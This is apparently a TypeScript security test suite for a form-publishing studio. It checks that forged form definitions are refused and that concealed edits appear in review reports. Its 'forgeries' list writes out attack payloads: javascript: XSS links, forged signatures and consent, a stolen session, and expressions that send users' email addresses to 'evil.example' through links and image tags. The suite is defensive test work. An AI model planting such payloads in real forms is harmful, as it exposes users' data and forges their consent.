import type { FunnelReport, Proposal } from '#schemas/studio/index.ts'
import type { StudioCalls } from '#tests/support/studioCalls.ts'
import type { Attack } from '../../attack.ts'
import { outcomeOf, saveAndPropose, variantOfV1 } from '../../toolkit/drafts.ts'
import { Findings } from '../../toolkit/findings.ts'
import { newMember } from '../../toolkit/staff.ts'

type Steps = Record<string, object>

const picture = 'data:image/png;base64,iVBORw0KGgo='
const consent = 'contactDetails.isTermsPolicyAgreed'
const robot = 'I am not a robot'

/** The page of v1 with the consent, on which something else is done or said. */
const does = (effect: object): Steps => ({ 'contact-details': { do: [effect] } })
const asks = (field: object): Steps => ({ 'contact-details': { fields: { [consent]: field } } })
const withDocument = (href: string): Steps => asks({ options: { links: [{ label: 'Privacy policy', href }] } })
const session = { access_token: 'stolen', expires_at: '2030-01-01T00:00:00.000Z' }
const box = 'box@evil.example'

/** What changes of v1, and what the checker calls it. */
const forgeries: { name: string; steps: Steps; code: string }[] = [
  {
    name: 'a signature',
    steps: does({ set: { signature: picture, signatureMethod: 'drawn' } }),
    code: 'personal-given',
  },
  { name: 'a consent', steps: does({ set: { [consent]: true } }), code: 'consent-given' },
  {
    name: 'a signature in the submit',
    steps: does({ call: 'submitForm', with: { signature: picture }, onFail: '@continue' }),
    code: 'access-input',
  },
  {
    name: 'a session',
    steps: does({ call: 'setSession', with: { session }, onFail: '@continue' }),
    code: 'access-input',
  },
  {
    name: 'a link by mail',
    steps: does({ call: 'requestPasswordReset', with: { email: box }, onFail: '@continue' }),
    code: 'access-input',
  },
  { name: 'an email', steps: does({ set: { 'contactDetails.email': box } }), code: 'access-input' },
  { name: 'a script as a document', steps: withDocument('javascript:alert(1)'), code: 'link-refused' },
  {
    name: 'answers to another site',
    steps: withDocument("= 'https://evil.example/?' + form.contactDetails.email"),
    code: 'link-refused',
  },
  {
    name: 'a script in the disclaimer',
    steps: asks({ options: { disclaimer: '<a href="javascript:alert(1)">Terms</a>' } }),
    code: 'html-refused',
  },
  {
    name: 'a picture that tells another site',
    steps: asks({
      options: { disclaimer: "= '<img src=\"https://evil.example/?' + form.contactDetails.email + '\">'" },
    }),
    code: 'html-refused',
  },
  {
    name: 'the words of the consent where nobody reads them',
    steps: {
      ...asks({ label: robot }),
      'lender-selection': { fields: { [consent]: { use: 'consent', if: "query.status == 'never'" } } },
    },
    code: 'consent-asked-twice',
  },
]

const filesOf = (id: string, more: object) => ({ [`${id}/funnel.json`]: () => variantOfV1(id, more) })

/** Proposes a variant of v1. */
const proposed = (author: StudioCalls, id: string, more: object): Promise<Proposal> =>
  saveAndPropose(author, id, filesOf(id, more))

const ownReport = ({ report, funnel }: Proposal): FunnelReport => report!.funnels.find((one) => one.funnel === funnel)!

/** A text that is the same for longer than a line of a report is. */
const long = (end: string): string => `${'We ask for this to find your agreements. '.repeat(12)}${end}`

export const attacks: Attack[] = [
  {
    name: 'forged definitions',
    shared: true,
    tries:
      'proposes forms that sign, agree or sign in for people, send their links to an address of the author, ask for a consent in other words, lead to scripts and carry answers to another site, and publishes them all the same',
    run: (world) =>
      world.withSettings({ STUDIO: '1' }, async (server, env) => {
        const found = new Findings()
        const publisher = await newMember(world, { server, env, name: 'publisher', role: 'publisher' })
        for (const [at, { name, steps, code }] of forgeries.entries()) {
          const { id, report } = await proposed(publisher, `forged-${at}`, { steps })
          const codes = new Set(report!.funnels.flatMap(({ findings }) => findings.map((one) => one.code as string)))
          const isRefused = codes.has(code) && report!.obstacles.length > 0
          found.add(name, isRefused, isRefused ? 'refused' : `not refused: ${[...codes].join(', ')}`)
          const outcome = await outcomeOf(publisher.call('POST', `/proposals/${id}/publish`, { note: 'an attack' }))
          found.add(`publishing ${name}`, outcome === '409', outcome)
          const { status } = await world.visit(world.brand, { at: server }).send('GET', `/claim/forged-${at}`)
          found.add(`the page with ${name}`, status === 404, status)
        }
        return found.verdict()
      }),
  },
  {
    name: 'changes that nobody sees',
    shared: true,
    tries:
      'publishes a form with a long text, and then proposes one that differs only at its end, one that says something else beside the consent, and one that calls something among many other changes',
    run: (world) =>
      world.withSettings({ STUDIO: '1' }, async (server, env) => {
        const found = new Findings()
        const publisher = await newMember(world, { server, env, name: 'publisher', role: 'publisher' })
        const saying = (end: string) => ({ steps: { 'date-of-birth': { text: long(end) } } })
        await publisher.publish('shown', filesOf('shown', saying('It costs nothing.')))

        const atEnd = ownReport(await proposed(publisher, 'shown', saying('It costs £900.')))
        const text = atEnd.differences.find(({ at }) => at === 'text')
        const isWhole =
          text?.before === JSON.stringify(long('It costs nothing.')) &&
          text.after === JSON.stringify(long('It costs £900.'))
        found.add('the end of a long text', isWhole, isWhole ? 'shown' : JSON.stringify(atEnd.differences))

        const words = ownReport(await proposed(publisher, 'shown', { steps: asks({ label: robot }) }))
        const isLegal = words.legal.some(({ place, after }) => place.includes(consent) && after === robot)
        found.add('other words beside the consent', isLegal, isLegal ? 'shown' : JSON.stringify(words.legal))

        const titles = Object.fromEntries(
          ['introduction', 'personal-details', 'address', 'signature', 'lender-selection'].map((step) => [
            step,
            { title: `Another ${step}` },
          ]),
        )
        const call = { call: 'listCompanyLenders', onFail: '@continue' }
        const among = ownReport(await proposed(publisher, 'shown', { steps: { ...titles, ...does(call) } }))
        const [first] = among.differences
        const isFirst = first?.acts === true && first.after?.includes(call.call) === true
        found.add('a call among other changes', isFirst, isFirst ? 'shown first' : JSON.stringify(first))
        return found.verdict()
      }),
  },
]
